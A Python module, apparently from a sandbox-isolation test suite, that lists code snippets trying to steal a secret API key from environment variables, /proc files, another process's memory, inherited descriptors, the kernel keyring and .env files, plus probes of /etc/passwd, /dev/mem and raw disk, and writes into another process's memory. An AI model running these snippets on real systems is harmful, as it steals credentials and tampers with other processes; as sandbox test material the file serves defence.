"""Attacks on keys: in environments, in memory, in descriptors, in well-known files."""

from attacks.attack import claim, claimed, group, harms, loot

_LOOT = {
    "environment of Python": "return int(os.environ['SOME_API_KEY'])",
    "environment of libc": """
        libc.getenv.restype = ctypes.c_char_p
        return int(libc.getenv(b'SOME_API_KEY'))
        """,
    "environment on the stack": """
        entries = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')
        for i in range(99):
            if entries[i].startswith(b'SOME_API_KEY='):
                return int(entries[i][13:])
        """,
    "own environment in proc": """
        text = open('/proc/self/environ').read()
        return int(text.partition('SOME_API_KEY=')[2].split('\\0')[0])
        """,
    "!environment of a process": """
        text = open('/proc/$bystander/environ').read()
        return int(text.partition('SOME_API_KEY=')[2].split('\\0')[0])
        """,
    "!environments of all": """
        for name in filter(str.isdigit, os.listdir('/proc')):
            try:
                text = open(f'/proc/{name}/environ').read()
            except OSError:
                continue
            if 'SOME_API_KEY=' in text:
                return int(text.partition('SOME_API_KEY=')[2].split('\\0')[0])
        """,
    "!arguments of a process": """
        text = open('/proc/$bystander/cmdline').read()
        return int(text.strip('\\0').split('\\0')[-1])
        """,
    "!input of a process": "return int(open('/proc/$bystander/fd/0').read())",
    "unnamed file of the host": "return int(open('/proc/$host/fd/$fd').read())",
    "memory of the host by proc": """
        with open('/proc/$host/mem', 'rb') as memory:
            memory.seek($address)
            return int.from_bytes(memory.read(8), 'little')
        """,
    "memory of the host by process_vm_readv": """
        text = ctypes.create_string_buffer(8)
        here = struct.pack('<2Q', ctypes.addressof(text), 8)
        there = struct.pack('<2Q', $address, 8)
        ok(libc.process_vm_readv($host, here, *wide((1,)), there, *wide((1, 0))))
        return int.from_bytes(text.raw, 'little')
        """,
    "descriptor of the host by pidfd_getfd": """
        d = sys_(438, sys_(434, $host, 0), $fd, 0)
        return int(os.pread(d, 99, 0))
        """,
    "!dot env": "return int(open('$home/.env').read().split('=')[1])",
    "!search of the home": """
        for folder, _, names in os.walk('$home'):
            for name in names:
                text = open(os.path.join(folder, name), errors='replace').read(999)
                if 'API_KEY=' in text:
                    return int(text.split('=')[1])
        """,
    "kernel keyring": """
        found = sys_(NR['keyctl'], 10, -3, b'user', b'$mark', 0)
        text = ctypes.create_string_buffer(99)
        sys_(NR['keyctl'], 11, found, text, 98)
        return int(text.value)
        """,
    "own memory": """
        for line in open('/proc/self/maps'):
            start, end = (int(x, 16) for x in line.split()[0].split('-'))
            if '[stack]' in line:
                text = ctypes.string_at(start, end - start)
                return int(text.partition(b'SOME_API_KEY=')[2].split(b'\\0')[0])
        """,
    "inherited descriptors": """
        for d in range(3, 64):
            try:
                return int(os.pread(d, 99, 0))
            except (OSError, ValueError):
                continue
        """,
    "memory of the interpreter": """
        import gc
        for one in gc.get_objects():
            if type(one) is dict and 'SOME_API_KEY' in one:
                return int(one['SOME_API_KEY'])
        """,
}
_PROBES = {
    "!list of processes": "assert '$host' in os.listdir('/proc')",
    "!status of a process": "open('/proc/$bystander/status').read()",
    "!memory map of another": "assert open('/proc/$bystander/maps').read(1)",
    "!working folder of another": "os.readlink('/proc/$bystander/cwd')",
    "!sockets of the machine": """
        assert f':{$tcp:04X}' in open('/proc/net/tcp').read()
        """,
    "!list of accounts": "open('/etc/passwd').read()",
    "kernel log": "ok(libc.klogctl(10, None, 0))",
    "memory of the kernel": "os.open('/proc/kcore', os.O_RDONLY)",
    "memory of the machine": "os.open('/dev/mem', os.O_RDONLY)",
    "disk of the machine": """
        node = '$folder/disk'
        os.mknod(node, 0o60600, os.stat('$home').st_dev)
        assert os.read(os.open(node, os.O_RDONLY), 512)
        """,
}
_WRITES = {
    "memory of the host by process_vm_writev": """
        text = ctypes.create_string_buffer(8)
        here = struct.pack('<2Q', ctypes.addressof(text), 8)
        there = struct.pack('<2Q', $address, 8)
        ok(libc.process_vm_writev($host, here, *wide((1,)), there, *wide((1, 0))))
        """,
    "memory of the host written by proc": """
        with open('/proc/$host/mem', 'r+b', buffering=0) as memory:
            memory.seek($address)
            memory.write(bytes(8))
        """,
}

ATTACKS = {
    **group("keys", loot, _LOOT),
    **group("keys", claimed, _PROBES, claim),
    **group("keys", harms("memory"), _WRITES, claim),
}
